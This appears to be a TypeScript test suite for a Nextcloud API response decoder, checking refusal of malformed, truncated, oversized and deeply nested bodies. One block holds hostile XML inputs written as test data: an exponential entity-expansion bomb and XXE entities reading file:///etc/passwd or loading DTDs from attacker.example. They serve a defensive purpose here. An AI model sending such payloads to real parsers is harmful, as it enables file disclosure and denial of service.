import assert from 'node:assert/strict';
import { fork } from 'node:child_process';
import { once } from 'node:events';

import {
  decodeAppInfo,
  decodeCapabilities,
  decodeEnvelope,
  decodeIds,
  decodeStatus,
  decodeUser,
} from '../../../../src/ocs/decode/index.ts';
import type { Refusal, Task } from './refuse.ts';
import { dataOf, formats, refusal, sent, writeBody } from './support.ts';
import { scaled } from '../../../support/limits.ts';

const sentences = {
  empty: 'The server sent an empty response.',
  webPage: 'The server sent a web page instead of data. The address may not be that of a Nextcloud.',
  damaged: 'The response of the server is damaged or incomplete.',
  tooLarge: 'The response of the server is too large.',
  notOcs: "The response did not come from Nextcloud's API.",
};

const refusalOf = (body: Uint8Array | string, contentType?: string): string =>
  refusal(() => decodeEnvelope(body, contentType));

const xmlWith = (data: string, before = ''): string =>
  `<?xml version="1.0"?>\n${before}<ocs><meta><status>ok</status><statuscode>100</statuscode></meta>${data}</ocs>\n`;
const jsonWith = (data: string): string => `{"ocs":{"meta":{"status":"ok","statuscode":100},"data":${data}}}`;

describe('decodeEnvelope', () => {
  it('detects the format from the content, whatever the content type, with or without a byte order mark', () => {
    for (const format of formats) {
      const body = `\uFEFF\n${writeBody(format, ['a'])}`;
      for (const contentType of [undefined, 'text/xml', 'application/json; charset=utf-8']) {
        assert.deepEqual(decodeIds(decodeEnvelope(body, contentType).data), ['a']);
        assert.deepEqual(decodeIds(decodeEnvelope(new TextEncoder().encode(body), contentType).data), ['a']);
      }
    }
  });

  it('returns the message as plain text, however often it was escaped', () => {
    const message = (text: string): string =>
      decodeEnvelope(xmlWith('<data/>').replace('</meta>', `<message>${text}</message></meta>`), undefined)
        .meta.message;
    assert.equal(message('&quot;a-z&quot; &amp; &#039;&#x263A;&#039;\n'), `"a-z" & '☺'`);
    assert.equal(message('&amp;quot;a-z&amp;quot;'), '"a-z"');
    assert.equal(message(''), '');
    assert.equal(decodeEnvelope(jsonWith('[]'), undefined).meta.message, '');
  });

  it('keeps whitespace and the order of children in XML, and decodes references once', () => {
    const data = '<data>\n <element> lead</element><b>&amp;lt;&#10;&lt;</b>\n <element>  </element></data>';
    assert.deepEqual(decodeIds(dataOf(xmlWith(data), 'xml')), [' lead', '&lt;\n<', '  ']);
  });
});

describe('decodeEnvelope with a body that is not an answer', () => {
  const cases: [what: string, body: string, sentence: string, contentType?: string][] = [
    ['nothing', '', sentences.empty],
    ['only whitespace', ' \n', sentences.empty],
    ['a web page', '<!DOCTYPE html>\n<html><head></head></html>', sentences.webPage],
    ['a web page without a type', '<html class="ng-csp">', sentences.webPage],
    ['text declared as a web page', 'Bad gateway', sentences.webPage, 'text/html'],
    ['plain text', 'ok', 'The server sent text/plain instead of data.', 'text/plain; charset=utf-8'],
    ['text before JSON that PHP does not print', 'Hello {"ocs":[]}', sentences.damaged, 'application/json'],
    ['a page that quotes an answer', `<html><p>${jsonWith('[]')}</p></html>`, sentences.webPage],
    ['something without a type', '\u0089PNG', 'The server sent something other than data.'],
    ['a hostile type', 'x', 'The server sent something other than data.', '<script>/x'],
    ['JSON of another kind', '{"message":"CSRF check failed"}', sentences.notOcs],
    ['an empty list', '[]', sentences.notOcs],
    ['XML of another kind', '<rss><channel/></rss>', sentences.notOcs],
    ['two documents', '<ocs></ocs><ocs></ocs>', sentences.damaged],
    ['text after the document', `${xmlWith('<data/>')}x`, sentences.damaged],
    ['text before the document', xmlWith('<data/>', 'x'), sentences.damaged],
    ['text between elements', xmlWith('<data>x<id>a</id></data>'), sentences.damaged],
    ['a repeated name', xmlWith('<data><id>a</id><id>b</id></data>'), sentences.damaged],
    ['a name with a space', xmlWith('<data><john doe><id>a</id></john doe></data>'), sentences.damaged],
    ['tags that do not match', xmlWith('<data><a><b></a></b></data>'), sentences.damaged],
    ['CDATA', xmlWith('<data><![CDATA[<id>a</id>]]></data>'), sentences.damaged],
    ['an unknown entity', xmlWith('<data>&nbsp;</data>'), sentences.damaged],
    ['a bare ampersand', xmlWith('<data>a & b</data>'), sentences.damaged],
  ];
  for (const [what, body, sentence, contentType] of cases) {
    it(`refuses it with a sentence of its own: ${what}`, () =>
      assert.equal(refusalOf(body, contentType), sentence));
  }

  const warning =
    '<br />\n<b>Deprecated</b>:  Optional parameter in <b>/srv/x.php</b> on line <b>3</b><br />\n';
  const printed: [what: string, body: string][] = [
    ['HTML before JSON', `${warning}${jsonWith('["a"]')}`],
    ['text before JSON', `\nWarning: Undefined array key "x" in /srv/x.php on line 3\n${jsonWith('["a"]')}`],
    ['several messages before JSON', `${warning.repeat(5)}${jsonWith('["a"]')}`],
    ['HTML after JSON', `${jsonWith('["a"]')}${warning}`],
    ['HTML before XML', `${warning}${xmlWith('<data><element>a</element></data>')}`],
  ];
  for (const [what, body] of printed)
    it(`ignores messages that PHP printed: ${what}`, () => {
      const envelope = decodeEnvelope(body, 'text/html; charset=utf-8');
      assert.equal(envelope.hasPhpMessages, true);
      assert.deepEqual(decodeIds(envelope.data), ['a']);
    });

  it('refuses bytes that are not UTF-8', () => {
    assert.equal(refusalOf(Buffer.from(jsonWith('["Gr\u00fc\u00dfe"]'), 'latin1')), sentences.damaged);
  });

  it('refuses a missing or invalid status', () => {
    assert.match(
      refusalOf('{"ocs":{"meta":{"status":"ok"},"data":[]}}'),
      /at ocs\.meta\.statuscode expected/,
    );
    assert.match(refusalOf('{"ocs":[1]}'), /at ocs expected a map, found a list/);
    assert.match(
      refusal(() => decodeStatus('{"installed":"yes"}')),
      /at status\.installed/,
    );
  });
});

describe('decodeEnvelope with a truncated body', () => {
  const user = { id: 'grüße', enabled: true, groups: ['a & b', '☂'], quota: { quota: -3 }, email: null };
  for (const format of formats) {
    it(`refuses ${format} wherever it is cut`, () => {
      const body = new TextEncoder().encode(writeBody(format, user).trim());
      for (let length = 0; length < body.length; length++) {
        assert.ok(
          [sentences.empty, sentences.damaged].includes(refusalOf(body.subarray(0, length))),
          String(length),
        );
      }
      assert.equal(decodeUser(dataOf(body, format)).userId, 'grüße');
    });
  }
});

describe('decodeEnvelope with XML entities', () => {
  const laughs = Array.from(
    { length: 10 },
    (_, index) => `<!ENTITY e${index + 1} "${`&e${index};`.repeat(10)}">`,
  );
  const doctypes = {
    'that expand exponentially': `<!DOCTYPE ocs [<!ENTITY e0 "ha">${laughs.join('')}]>`,
    'with a large text': `<!DOCTYPE ocs [<!ENTITY e10 "${'ha'.repeat(50_000)}">]>`,
    'that load a file': '<!DOCTYPE ocs [<!ENTITY e10 SYSTEM "file:///etc/passwd">]>',
    'that load from another host': '<!DOCTYPE ocs SYSTEM "http://attacker.example/ocs.dtd">',
    'in parameters': '<!DOCTYPE ocs [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
    'that redefine standard ones': '<!DOCTYPE ocs [<!ENTITY amp "x">]>',
  };
  for (const [what, doctype] of Object.entries(doctypes)) {
    it(`refuses entities ${what}`, () => {
      assert.equal(refusalOf(xmlWith(`<data>${'&e10;'.repeat(1000)}</data>`, doctype)), sentences.damaged);
      assert.equal(refusalOf(xmlWith('<data/>', doctype)), sentences.damaged);
    });
  }
});

describe('deeply nested bodies', () => {
  const nested = (depth: number): string => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);

  it('are refused in XML', () => {
    assert.equal(
      refusalOf(xmlWith(`<data>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</data>`)),
      sentences.damaged,
    );
  });

  it('are refused in JSON that the client passes on as it is', () => {
    for (const depth of [200, 100_000]) {
      const version = '"version":{"major":35,"minor":0,"micro":0,"string":"35"}';
      const capabilities = dataOf(jsonWith(`{${version},"capabilities":${nested(depth)}}`));
      assert.match(
        refusal(() => decodeCapabilities(capabilities)),
        /at data\.capabilities expected at most 100 levels/,
      );
      const app = dataOf(jsonWith(`{"id":"notes","x":${nested(depth)}}`));
      assert.match(
        refusal(() => decodeAppInfo(app)),
        /at data expected at most 100 levels/,
      );
    }
  });

  it('are refused in JSON with numeric keys', () => {
    assert.equal(refusalOf(jsonWith(`{"7":${nested(100_000)}}`)), sentences.damaged);
  });

  it('do no harm in parts that are not read', () => {
    assert.deepEqual(decodeUser(dataOf(jsonWith(`{"id":"a","x":${nested(100_000)}}`))), { userId: 'a' });
    assert.deepEqual(decodeUser(sent({ id: 'a', x: { y: [] } })), { userId: 'a' });
  });
});

describe('large bodies', () => {
  const MIB = 1024 * 1024;
  const json = '{"ocs":[';
  const xml = '<?xml version="1.0"?><ocs><data>';
  const xmlEnd = '</data></ocs>';
  const tasks: Task[] = [
    { what: 'open brackets', start: json, unit: '[', end: '', length: 64 * MIB },
    { what: 'an open text', start: json, unit: '"\\', end: '', length: 64 * MIB },
    { what: 'numbers', start: json, unit: '1,', end: '1]}', length: 64 * MIB },
    { what: 'long numbers', start: json, unit: '12345678901234567890,', end: '1]}', length: 64 * MIB },
    { what: 'plain text', start: '', unit: 'x', end: '', length: 64 * MIB },
    { what: 'elements', start: xml, unit: '<a/>', end: xmlEnd, length: 64 * MIB },
    { what: 'no elements', start: xml, unit: 'x', end: xmlEnd, length: 8 * MIB },
    { what: 'elements in text', start: xml, unit: 'x<a/>', end: xmlEnd, length: 8 * MIB },
    { what: 'open elements', start: xml, unit: '<a>', end: xmlEnd, length: 8 * MIB },
    { what: 'open comments', start: xml, unit: '<!--', end: xmlEnd, length: 8 * MIB },
    { what: 'ampersands', start: xml, unit: '&', end: xmlEnd, length: 8 * MIB },
    { what: 'attributes', start: '<ocs', unit: ' a="b"', end: '/>', length: 8 * MIB },
  ];

  it('are refused in bounded time, with a heap of 1 GiB', async function () {
    this.timeout(180_000);
    const child = fork(new URL('./refuse.ts', import.meta.url), [JSON.stringify(tasks)], {
      execArgv: ['--import=tsx', '--max-old-space-size=1024'],
    });
    const refusals: Refusal[] = [];
    child.on('message', (message: Refusal) => refusals.push(message));
    await once(child, 'exit');
    assert.deepEqual(
      refusals.map(({ what }) => what),
      tasks.map(({ what }) => what),
    );
    for (const { what, sentence, ms } of refusals) {
      console.log(`      ${what}: ${sentence} (${Math.round(ms)} ms)`);
      assert.match(sentence, /damaged|too large|than data|instead of data|cannot be used|did not come from/);
      assert.ok(ms < scaled(30_000), what);
    }
  });
});
